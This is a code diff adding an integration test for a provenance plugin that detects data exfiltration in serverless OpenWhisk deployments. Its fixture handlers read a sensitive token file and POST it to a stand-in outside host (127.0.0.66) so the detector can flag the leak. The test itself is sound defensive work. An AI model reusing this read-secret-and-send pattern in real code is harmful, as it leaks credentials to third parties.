@@ -1,0 +1,166 @@
+// custom.provenance travels with the deployment, as a new user tries it: `provenance local start
+// --store DIR` (the built bin, a real process) with its store in one folder, and a service in
+// another folder deployed with the real serverless v3 CLI, with nothing telling the plugin where the
+// store is (no PROVENANCE_STORE, no custom.provenance.store). The service names its token file
+// sensitive; one action reads it and hands it to a second action, which POSTs it to an outside
+// address (127.0.0.66). The settings reach the correlator inside the deployed actions, so
+// `provenance report --json` shows the exfiltration.
+import { spawn, type ChildProcess } from 'node:child_process';
+import * as fs from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import * as os from 'node:os';
+import * as path from 'node:path';
+import openwhisk from 'openwhisk';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Incident } from '../upg/analyses/types';
+import { assertBuilt, makeHome, makeService, removeScratch, ROOT, sls } from './plugin-harness';
+import { runNode } from './run-node';
+
+const SERVICE = 'travel';
+const OUTSIDE = '127.0.0.66';
+
+const dirs: string[] = [];
+let platform: ChildProcess | undefined;
+let outside: Server | undefined;
+let storeDir: string;
+let serviceDir: string;
+let env: Record<string, string> & { HOME: string };
+let apihost: string;
+let auth: string;
+let outsidePort: number;
+let received: string[] = [];
+let stdout = '';
+let stderr = '';
+
+beforeAll(async () => {
+  assertBuilt();
+  const base = fs.mkdtempSync(path.join(os.tmpdir(), 'config-elsewhere-'));
+  dirs.push(base);
+  storeDir = path.join(base, 'store');
+  platform = spawn(process.execPath, [path.join(ROOT, 'bin', 'provenance.js'), 'local', 'start', '--store', storeDir, '--idle-timeout', '120'], {
+    cwd: base,
+    stdio: ['ignore', 'pipe', 'pipe'],
+  });
+  platform.stdout!.on('data', (c: Buffer) => (stdout += c.toString()));
+  platform.stderr!.on('data', (c: Buffer) => (stderr += c.toString()));
+  const deadline = Date.now() + 60_000;
+  while (!/WSK_CONFIG_FILE=/.test(stdout)) {
+    if (Date.now() > deadline || platform.exitCode !== null) throw new Error(`local start did not come up: ${stdout}\n${stderr}`);
+    await new Promise((r) => setTimeout(r, 100));
+  }
+  const value = (key: string) => new RegExp(`^${key}=(.*)$`, 'm').exec(stdout)![1]!;
+  apihost = value('OW_APIHOST');
+  auth = value('OW_AUTH');
+
+  outside = createServer((req, res) => {
+    let body = '';
+    req.on('data', (c) => (body += c));
+    req.on('end', () => {
+      received.push(body);
+      res.writeHead(200).end('ok');
+    });
+  });
+  await new Promise<void>((resolve, reject) => {
+    outside!.once('error', reject);
+    outside!.listen(0, OUTSIDE, resolve);
+  });
+  outsidePort = (outside.address() as AddressInfo).port;
+
+  const home = makeHome();
+  dirs.push(home);
+  env = { HOME: home, OW_APIHOST: apihost, OW_AUTH: auth };
+  serviceDir = makeService({
+    'serverless.yml': [
+      `service: ${SERVICE}`,
+      'frameworkVersion: "3"',
+      'provider:',
+      '  name: openwhisk',
+      '  runtime: nodejs:20',
+      'functions:',
+      '  read:',
+      '    handler: handlers/read.main',
+      '  send:',
+      '    handler: handlers/send.main',
+      'plugins:',
+      '  - serverless-openwhisk',
+      '  - serverless-provenance',
+      'custom:',
+      '  provenance:',
+      '    sensitive:',
+      '      secrets: [token.json]',
+      '',
+    ].join('\n'),
+    // reads the sensitive file and hands it on: the first action of the leak
+    'handlers/read.js': [
+      "const fs = require('fs');",
+      "const path = require('path');",
+      "const openwhisk = require('openwhisk');",
+      'exports.main = async (params) => {',
+      "  const token = fs.readFileSync(path.join(__dirname, '..', 'vault', 'token.json'), 'utf8');",
+      `  return openwhisk().actions.invoke({ name: '${SERVICE}-dev-send', blocking: true, result: true, params: { token, host: params.host, port: params.port } });`,
+      '};',
+      '',
+    ].join('\n'),
+    // sends what it was given to an outside address: the second action
+    'handlers/send.js': [
+      "const http = require('http');",
+      'exports.main = async (params) => {',
+      '  await new Promise((resolve, reject) => {',
+      "    const req = http.request({ host: params.host, port: params.port, method: 'POST', path: '/collect' }, (res) => { res.resume(); res.on('end', resolve); });",
+      "    req.on('error', reject);",
+      '    req.end(params.token);',
+      '  });',
+      '  return { sent: params.token.length };',
+      '};',
+      '',
+    ].join('\n'),
+    'vault/token.json': '{"token":"s3cr3t"}\n',
+  });
+  dirs.push(serviceDir);
+}, 120_000);
+
+afterAll(async () => {
+  if (platform && platform.exitCode === null) {
+    const exited = new Promise((r) => platform!.once('exit', r));
+    platform.kill('SIGTERM');
+    await Promise.race([exited, new Promise((r) => setTimeout(r, 15_000))]);
+    if (platform.exitCode === null) platform.kill('SIGKILL');
+  }
+  if (outside) await new Promise((r) => outside!.close(r));
+  removeScratch(dirs);
+});
+
+async function report(): Promise<Incident[]> {
+  const result = await runNode([path.join(ROOT, 'bin', 'provenance.js'), 'report', '--json', '--all', '--store', storeDir], { cwd: os.tmpdir() });
+  expect(result.code, result.stderr).toBe(0);
+  return (JSON.parse(result.stdout) as { incidents: Incident[] }).incidents;
+}
+
+describe('settings travel with the deployment', () => {
+  it('a service deployed from elsewhere, with its store unknown to the plugin, is judged by its own settings', async () => {
+    const deploy = await sls(serviceDir, ['deploy', '--verbose'], env, 120_000);
+    expect(deploy.code, deploy.output).toBe(0);
+    expect(deploy.output).not.toMatch(/uses its defaults/);
+    expect(fs.existsSync(path.join(serviceDir, '.provenance'))).toBe(false);
+
+    const ow = openwhisk({ apihost, api_key: auth });
+    const result = await ow.actions.invoke({ name: `${SERVICE}-dev-read`, blocking: true, result: true, params: { host: OUTSIDE, port: outsidePort } });
+    expect(result).toEqual({ sent: 19 });
+    expect(received).toEqual(['{"token":"s3cr3t"}\n']);
+
+    // detection runs shortly after the batches arrive: wait for it, but not forever
+    let found: Incident[] = [];
+    for (const until = Date.now() + 30_000; Date.now() < until; await new Promise((r) => setTimeout(r, 500))) {
+      found = (await report()).filter((i) => i.kind === 'exfiltration');
+      if (found.length) break;
+    }
+    expect(found, `${stdout}\n${stderr}`).toHaveLength(1);
+    expect(found[0]).toMatchObject({
+      kind: 'exfiltration',
+      artifact: { kind: 'file', path: expect.stringMatching(/\/vault\/token\.json$/) },
+      sink: { address: OUTSIDE, port: outsidePort },
+    });
+    expect(found[0]!.timeline.map((p) => p.action)).toEqual(expect.arrayContaining([expect.stringMatching(/travel-dev-read$/), expect.stringMatching(/travel-dev-send$/)]));
+  }, 240_000);
+});
